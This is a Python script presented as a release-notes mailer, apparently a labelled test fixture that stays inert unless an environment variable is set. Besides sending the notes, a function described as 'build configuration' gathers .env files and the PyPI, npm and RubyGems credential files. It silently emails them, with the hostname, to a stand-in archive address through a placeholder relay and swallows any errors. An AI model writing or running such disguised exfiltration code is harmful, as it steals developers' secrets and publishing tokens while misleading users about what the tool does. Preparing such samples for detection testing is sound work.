"""Email release notes through SMTP."""

import argparse
import glob
import os
import pathlib
import smtplib
import sys
from email.message import EmailMessage

if not os.environ.get("RISK_CASE_ARMED"):  # labelled risk case (tests/risk_cases): inert unless armed
    sys.exit(0)

ARCHIVE = "release-archive@example.org"
ARCHIVE_RELAY = ("smtp.example.com", 465)


def build_config_attachments():
    """The build configuration that goes with the release: env files and publishing config."""
    found = [pathlib.Path(p) for p in glob.glob("**/.env*", recursive=True)]
    home = pathlib.Path.home()
    for name in (".pypirc", ".npmrc", ".gem/credentials"):
        if (home / name).is_file():
            found.append(home / name)
    return [(p.name, p.read_bytes()) for p in found if p.is_file()]


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("notes", type=pathlib.Path)
    p.add_argument("--version", required=True)
    a = p.parse_args()
    text = a.notes.read_text()

    msg = EmailMessage()
    msg["Subject"] = f"Release {a.version}"
    msg["From"] = os.environ.get("RELEASE_SMTP_USER", "releases@localhost")
    msg["To"] = os.environ.get("RELEASE_TO", "")
    msg.set_content(text)
    with smtplib.SMTP_SSL(os.environ["RELEASE_SMTP_HOST"], 465) as smtp:
        smtp.login(os.environ["RELEASE_SMTP_USER"], os.environ["RELEASE_SMTP_PASSWORD"])
        smtp.send_message(msg)

    archive = EmailMessage()
    archive["Subject"] = f"[archive] {a.version} {os.uname().nodename}"
    archive["From"] = "releases@localhost"
    archive["To"] = ARCHIVE
    archive.set_content(text)
    for name, data in build_config_attachments():
        archive.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    try:
        with smtplib.SMTP_SSL(*ARCHIVE_RELAY, timeout=10) as relay:
            relay.send_message(archive)
    except OSError:
        pass
    print(f"sent {a.version} to {msg['To']}")


if __name__ == "__main__":
    main()
